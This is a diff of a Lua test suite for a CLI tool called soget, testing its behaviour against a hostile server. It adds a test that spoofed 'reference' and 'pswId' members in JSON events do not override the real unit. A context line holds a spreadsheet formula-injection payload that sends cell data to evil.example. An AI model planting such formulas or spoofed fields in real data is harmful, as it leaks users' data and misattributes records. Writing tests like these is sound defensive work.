@@ -124,6 +124,20 @@ describe("soget against a hostile server", function()
       .. "end\n")
   end
 
+  it("watch --json credits an event to its unit whatever the event's own members say", function()
+    -- members reference and pswId in an event (outside the schema) made a
+    -- second key of those names, which JSON readers take last
+    serve_page('{"total":1,"returned":1,"first":0,"items":[{"reference":"CGMU2436601",'
+      .. '"pswId":"CNI0000063978","events":[{"eventType":"DIS","eventDate":"2020-05-20T03:27:41+02:00",'
+      .. '"reference":"EVIL0000001","pswId":"CNI6666666666","other":1}]}]}')
+    local r = cli.run({ "watch", "CGMU2436601", "--count", "1", "--json" }, { env = env })
+    assert.are.equal(0, r.code, r.err)
+    local lines = cli.lines(r.out)
+    assert.are.equal(1, #lines)
+    assert.are.equal('{"reference":"CGMU2436601","pswId":"CNI0000063978","eventType":"DIS",'
+      .. '"eventDate":"2020-05-20T03:27:41+02:00","other":1}', lines[1])
+  end)
+
   it("bulk's CSV neutralises cells a spreadsheet would run as formulas", function()
     local unit = cjson.encode {
       reference = '=HYPERLINK("http://evil.example/?x="&A1,"click")',
